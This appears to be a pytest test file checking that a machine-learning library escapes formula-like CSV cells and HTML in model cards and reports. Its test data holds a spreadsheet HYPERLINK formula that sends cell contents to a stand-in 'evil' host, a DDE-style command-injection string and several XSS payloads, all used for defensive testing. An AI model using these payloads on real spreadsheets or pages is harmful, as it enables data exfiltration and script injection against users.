"""Written tables hold no formulas that a spreadsheet would compute, and lose nothing else."""

import json
from pathlib import Path

import polars as pl
import pytest

import unrolled as ur
from unrolled.cli.main import make_app
from unrolled.data.spreadsheet_cells import STARTS, escaped
from unrolled.errors import OptionError

FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_a_text_that_a_spreadsheet_computes_gets_an_apostrophe(start: str) -> None:
    found = escaped(pl.DataFrame({"a": [f"{start}cmd", f"x{start}", None, ""], f"{start}b": [1, 2, 3, 4]}))
    assert found.columns == ["a", f"'{start}b"]
    assert found["a"].to_list() == [f"'{start}cmd", f"x{start}", None, ""]


@pytest.mark.parametrize("number", ["-1.5", "+3", "-.5e-3", "-2.", "1e9"])
def test_numbers_stay_numbers(number: str) -> None:
    table = pl.DataFrame({"text": [number], "number": [float(number)]})
    assert escaped(table).equals(table)


def test_formulas_that_begin_as_numbers_do_are_no_numbers() -> None:
    assert escaped(pl.DataFrame({"a": ["-1+cmd|' /C calc'!A0", "+1\n=2"]}))["a"].str.starts_with("'").all()


def test_names_that_would_meet_stay_apart() -> None:
    assert len(set(escaped(pl.DataFrame({"=a": [1], "'=a": [2]})).columns)) == 2


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    texts = ["=good", "=bad"] * 20
    data = {"<img src=x onerror=alert(1)>": texts, "say": ["`yes` [x](javascript:y)", "# no\n```\n<script>"] * 20}
    task = ur.Classifier(inputs=["<img src=x onerror=alert(1)>"], target="say", hidden_size=4)
    return task.fit(data, epochs=1).save(tmp_path_factory.mktemp("models") / "model")


def test_the_answers_that_predict_writes_are_escaped_only_in_csv(model: Path, tmp_path: Path) -> None:
    data = tmp_path / "data.jsonl"
    records = [{"<img src=x onerror=alert(1)>": FORMULA, "=n": -1.5}, {"<img src=x onerror=alert(1)>": "-2", "=n": 3}]
    data.write_text("\n".join(map(json.dumps, records)))

    def answers(name: str, *more: str) -> str:
        make_app([])(["predict", str(model), str(data), "--out", str(tmp_path / name), *more], standalone_mode=False)
        return (tmp_path / name).read_text()

    assert pl.read_csv(answers("a.csv").encode())["'=n"].to_list() == [-1.5, 3]
    assert "'=HYPERLINK" in answers("a.csv")
    assert "\n-2," in answers("a.csv")
    for text in (answers("raw.csv", "--raw-cells"), answers("a.jsonl")):
        assert "'=" not in text
        assert "=HYPERLINK" in text
    with pytest.raises(OptionError, match="--raw-cells"):
        answers("a.jsonl", "--raw-cells")


def test_names_of_columns_and_classes_are_code_in_the_card(model: Path) -> None:
    from markdown_it import MarkdownIt

    page = MarkdownIt("commonmark").render((model / "README.md").read_text())
    assert "&lt;img src=x" in page
    for tag in ("<img", "<script", "<a ", 'href="'):
        assert tag not in page
    assert page.count("<h1>") == 1


def test_a_report_shows_names_as_text(model: Path, tmp_path: Path) -> None:
    from unrolled.report.page import PageTable, Section, write_page

    bad = '<img src=x onerror="alert(1)">'
    write_page(tmp_path / "page.html", bad, bad, [Section(bad, [bad], [PageTable([bad], [[bad]], bad)])])
    page = (tmp_path / "page.html").read_text()
    assert page.count("&lt;img src=x onerror=&#34;alert(1)&#34;&gt;") == 9
    assert "<img" not in page
